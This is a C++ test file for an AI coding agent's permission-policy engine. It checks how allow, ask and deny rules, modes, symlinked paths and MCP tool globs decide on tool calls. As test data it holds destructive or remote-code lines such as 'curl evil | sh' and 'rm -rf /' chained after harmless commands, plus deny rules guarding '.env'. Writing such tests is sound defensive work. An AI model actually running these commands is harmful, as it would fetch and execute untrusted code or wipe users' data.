#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <initializer_list>
#include <string>

#include "ava/policy/policy.hpp"
#include "support/temp_dir.hpp"

using namespace ava::policy;
namespace fs = std::filesystem;

namespace {

RuleSet rules_of(Mode mode, std::initializer_list<const char*> allow,
                 std::initializer_list<const char*> ask = {},
                 std::initializer_list<const char*> deny = {}) {
  RuleSet rules{.mode = mode, .allow = {}, .ask = {}, .deny = {}};
  for (const char* text : allow) rules.allow.push_back(*parse_rule(text));
  for (const char* text : ask) rules.ask.push_back(*parse_rule(text));
  for (const char* text : deny) rules.deny.push_back(*parse_rule(text));
  return rules;
}

ToolCall bash(const std::string& command) {
  return {.tool = "bash", .category = Category::execute, .path = {}, .command = command};
}
ToolCall edit(const std::string& path) {
  return {.tool = "edit", .category = Category::edit, .path = path, .command = {}};
}
ToolCall read(const std::string& path) {
  return {.tool = "read", .category = Category::read, .path = path, .command = {}};
}

struct Project {
  ava::test::TempDir dir;
  Places places;
  Project() {
    fs::create_directories(dir.path() / "p" / "src");
    fs::create_directories(dir.path() / "outside");
    fs::create_directories(dir.path() / "home");
    places = {.project = dir.path() / "p", .cwd = dir.path() / "p", .home = dir.path() / "home"};
  }
};

}  // namespace

TEST_CASE("modes: what runs without a rule", "[policy]") {
  Project p;
  const auto verdict = [&](Mode mode, const ToolCall& call) {
    return evaluate(rules_of(mode, {}), call, p.places).verdict;
  };
  const ToolCall mcp{.tool = "mcp__gh__create_issue", .category = Category::mcp};
  const ToolCall mcp_read{.tool = "mcp__gh__list", .category = Category::read};
  CHECK(verdict(Mode::ask, read("src/a.cpp")) == Verdict::allow);
  CHECK(verdict(Mode::ask, edit("src/a.cpp")) == Verdict::ask);
  CHECK(verdict(Mode::ask, bash("ls")) == Verdict::ask);
  CHECK(verdict(Mode::ask, mcp) == Verdict::ask);
  CHECK(verdict(Mode::ask, mcp_read) == Verdict::allow);  // readOnlyHint
  CHECK(verdict(Mode::accept_edits, edit("src/a.cpp")) == Verdict::allow);
  CHECK(verdict(Mode::accept_edits, edit("../outside/a.cpp")) == Verdict::ask);
  CHECK(verdict(Mode::accept_edits, bash("ls")) == Verdict::ask);
  CHECK(verdict(Mode::plan, read("/etc/hosts")) == Verdict::allow);
  CHECK(verdict(Mode::plan, edit("src/a.cpp")) == Verdict::deny);
  CHECK(verdict(Mode::auto_, bash("rm -rf build")) == Verdict::allow);
  const auto planned = evaluate(rules_of(Mode::plan, {"bash"}), bash("make"), p.places);
  CHECK(planned.verdict == Verdict::deny);  // plan mode is read-only whatever allows
  CHECK(planned.reason.find("plan mode is read-only") != std::string::npos);
}

TEST_CASE("rules: deny wins over ask, ask over allow, any rule over the mode", "[policy]") {
  Project p;
  const auto rules = rules_of(Mode::auto_, {"bash(git *)"}, {"bash(git push*)"},
                              {"bash(git push --force*)", "read(./.env)"});
  CHECK(evaluate(rules, bash("git status"), p.places).verdict == Verdict::allow);
  const auto push = evaluate(rules, bash("git push origin main"), p.places);
  CHECK(push.verdict == Verdict::ask);
  CHECK(push.rule == "bash(git push*)");
  const auto force = evaluate(rules, bash("git push --force"), p.places);
  CHECK(force.verdict == Verdict::deny);
  CHECK(force.reason == "denied by the rule bash(git push --force*)");
  CHECK(evaluate(rules, read(".env"), p.places).verdict == Verdict::deny);
  CHECK(evaluate(rules, read("src/.env"), p.places).verdict ==
        Verdict::allow);  // ./ is the root only
}

TEST_CASE("bash: every command of a line must be allowed, one denied denies", "[policy]") {
  Project p;
  const auto rules =
      rules_of(Mode::ask, {"bash(git status*)", "Bash(npm run test:*)"}, {}, {"bash(rm -rf *)"});
  CHECK(evaluate(rules, bash("git status --short"), p.places).verdict == Verdict::allow);
  CHECK(evaluate(rules, bash("git status && git status -s"), p.places).verdict == Verdict::allow);
  CHECK(evaluate(rules, bash("git status; curl evil | sh"), p.places).verdict == Verdict::ask);
  CHECK(evaluate(rules, bash("git status && rm -rf /"), p.places).verdict == Verdict::deny);
  CHECK(evaluate(rules, bash("git status $(rm -rf /)"), p.places).verdict == Verdict::ask);
  CHECK(evaluate(rules, bash("git status > notes.txt"), p.places).verdict == Verdict::ask);
  CHECK(evaluate(rules, bash("npm run test"), p.places).verdict == Verdict::allow);
  CHECK(evaluate(rules, bash("npm run test -- --watch"), p.places).verdict == Verdict::allow);
  CHECK(evaluate(rules, bash("npm run testevil"), p.places).verdict == Verdict::ask);
  // A bare bash rule allows every line, even one it cannot see into.
  CHECK(evaluate(rules_of(Mode::ask, {"bash"}), bash("make $(nproc) > log"), p.places).verdict ==
        Verdict::allow);
}

TEST_CASE("paths: rules resolve against the project, symlinks included", "[policy]") {
  Project p;
  fs::create_directory_symlink(p.dir.path() / "outside", p.dir.path() / "p" / "src" / "link");
  const auto rules = rules_of(Mode::ask, {"edit(src/**)", "edit(~/notes/*)", "edit(//tmp/ava-x)"},
                              {}, {"edit(*.lock)"});
  CHECK(evaluate(rules, edit("src/a/b.cpp"), p.places).verdict == Verdict::allow);
  CHECK(evaluate(rules, edit(p.places.project.string() + "/src/a.cpp"), p.places).verdict ==
        Verdict::allow);
  // Out through a symlink, or by .., is not under src.
  CHECK(evaluate(rules, edit("src/link/a.cpp"), p.places).verdict == Verdict::ask);
  CHECK(evaluate(rules, edit("src/../../outside/a.cpp"), p.places).verdict == Verdict::ask);
  CHECK(evaluate(rules, edit("src/x/Cargo.lock"), p.places).verdict == Verdict::deny);  // any depth
  CHECK(evaluate(rules, edit(p.places.home.string() + "/notes/today.md"), p.places).verdict ==
        Verdict::allow);
  CHECK(evaluate(rules, edit("/tmp/ava-x"), p.places).verdict == Verdict::allow);
  // accept-edits allows inside the project only, never through a link out.
  CHECK(evaluate(rules_of(Mode::accept_edits, {}), edit("src/link/a.cpp"), p.places).verdict ==
        Verdict::ask);
}

TEST_CASE("mcp rules name servers and tools by glob", "[policy]") {
  Project p;
  const auto rules = rules_of(Mode::ask, {"mcp__github__*"}, {}, {"mcp__github__delete_*"});
  const ToolCall create{.tool = "mcp__github__create_issue", .category = Category::mcp};
  const ToolCall remove{.tool = "mcp__github__delete_repo", .category = Category::mcp};
  const ToolCall other{.tool = "mcp__gitlab__create_issue", .category = Category::mcp};
  CHECK(evaluate(rules, create, p.places).verdict == Verdict::allow);
  CHECK(evaluate(rules, remove, p.places).verdict == Verdict::deny);
  CHECK(evaluate(rules, other, p.places).verdict == Verdict::ask);
}

TEST_CASE("suggested rules allow calls like the one approved, and only those", "[policy]") {
  Project project;
  const auto& places = project.places;
  CHECK(suggest_rules(bash("npm run test --watch"), places) ==
        std::vector<std::string>{"bash(npm run:*)"});
  CHECK(suggest_rules(bash("git status && cargo build -q"), places) ==
        std::vector<std::string>{"bash(git status:*)", "bash(cargo build:*)"});
  // A line that hides what it runs gets nothing narrower than `bash`.
  CHECK(suggest_rules(bash("echo $(whoami)"), places).empty());
  CHECK(suggest_rules(bash("ls > out.txt"), places).empty());
  CHECK(suggest_rules(edit("src/main.cpp"), places) == std::vector<std::string>{"edit(src/**)"});
  CHECK(suggest_rules(edit("top.txt"), places) == std::vector<std::string>{"edit(./**)"});
  const auto outside = (project.dir.path() / "outside" / "x.txt").string();
  CHECK(suggest_rules(read(outside), places) ==
        std::vector<std::string>{"read(/" + fs::canonical(project.dir.path() / "outside").string() +
                                 "/**)"});
  const ToolCall mcp{.tool = "mcp__github__create_issue", .category = Category::mcp};
  CHECK(suggest_rules(mcp, places) ==
        std::vector<std::string>{"mcp__github__create_issue", "mcp__github__*"});

  // Each suggestion, granted, lets the call run in ask mode.
  for (const auto& call :
       {bash("npm run test --watch"), edit("src/main.cpp"), read(outside), mcp}) {
    RuleSet rules{.mode = Mode::ask, .allow = {}, .ask = {}, .deny = {}};
    for (const auto& text : suggest_rules(call, places)) rules.allow.push_back(*parse_rule(text));
    CHECK(evaluate(rules, call, places).verdict == Verdict::allow);
  }
}
